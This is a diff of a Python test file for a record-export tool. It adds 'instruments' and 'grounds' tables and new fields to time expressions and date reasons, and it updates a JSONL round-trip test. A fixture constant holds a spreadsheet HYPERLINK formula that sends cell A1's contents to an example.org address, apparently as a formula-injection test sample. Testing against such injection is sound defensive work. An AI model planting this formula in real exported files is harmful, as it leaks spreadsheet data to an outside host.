@@ -33,7 +33,7 @@ from onrecord.publishing.tables import as_written, harmless
 from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record, write_record
 
 NAMES = [
-    *("reports", "statements", "refusals", "actors", "offices", "lineage", "divergences"),
+    *("reports", "statements", "refusals", "actors", "offices", "instruments", "grounds", "lineage", "divergences"),
     *("identities", "decisions", "unread", "duplicates"),
 ]
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
@@ -64,7 +64,7 @@ def sample() -> Report:
         language="en",
         published=day,
         chrome=(span("😀"),),
-        times=(TimeExpression(span("degrees"), "DURATION", "P1D"),),
+        times=(TimeExpression(span("degrees"), "DURATION", "P1D", "APPROX"),),
         statements=(
             Statement(
                 span(FORMULA),
@@ -193,8 +193,16 @@ def test_reports_can_be_made_again_from_jsonl(tmp_path: Path, pile: list[Report]
     write_record(tmp_path / "r", pile)
     with open_record(tmp_path / "r") as record:
         export(record, tmp_path, "jsonl")
-    # What reports say that people were is in offices.jsonl, all reports together.
-    assert _made_again(tmp_path) == [replace(report, descriptions=()) for report in pile]
+    # What people were is in offices.jsonl, and what instruments are in instruments.jsonl, all reports together.
+    assert _made_again(tmp_path) == [
+        replace(
+            report,
+            descriptions=(),
+            citations=(),
+            statements=tuple(replace(statement, grounds=()) for statement in report.statements),
+        )
+        for report in pile
+    ]
 
 
 @quick
@@ -247,7 +255,17 @@ def _made_again(folder: Path) -> list[Report]:
             day(value["earliest"]),
             day(value["latest"]),
             tuple(DateCandidate(day(each["date"]), each["weight"]) for each in value["candidates"]),
-            tuple(DateReason(each["reason"], each["origin"], span(each["span"])) for each in value["reasons"]),
+            tuple(
+                DateReason(
+                    each["reason"],
+                    each["origin"],
+                    span(each["span"]),
+                    each["against"],
+                    each["sibling"] or "",
+                    span(each["sibling_span"]),
+                )
+                for each in value["reasons"]
+            ),
         )
 
     def statement(row: dict[str, Any]) -> Statement:
@@ -276,7 +294,9 @@ def _made_again(folder: Path) -> list[Report]:
         reports.append(
             Report(
                 chrome=tuple(map(span, row["chrome"])),
-                times=tuple(TimeExpression(span(each), each["type"], each["value"]) for each in row["times"]),
+                times=tuple(
+                    TimeExpression(span(each), each["type"], each["value"], each["modifier"]) for each in row["times"]
+                ),
                 statements=tuple(statement(next(found)) for _ in row["statements"]),
                 refusals=tuple(refusal(next(refused)) for _ in row["refusals"]),
                 published=estimate(row["published"]),
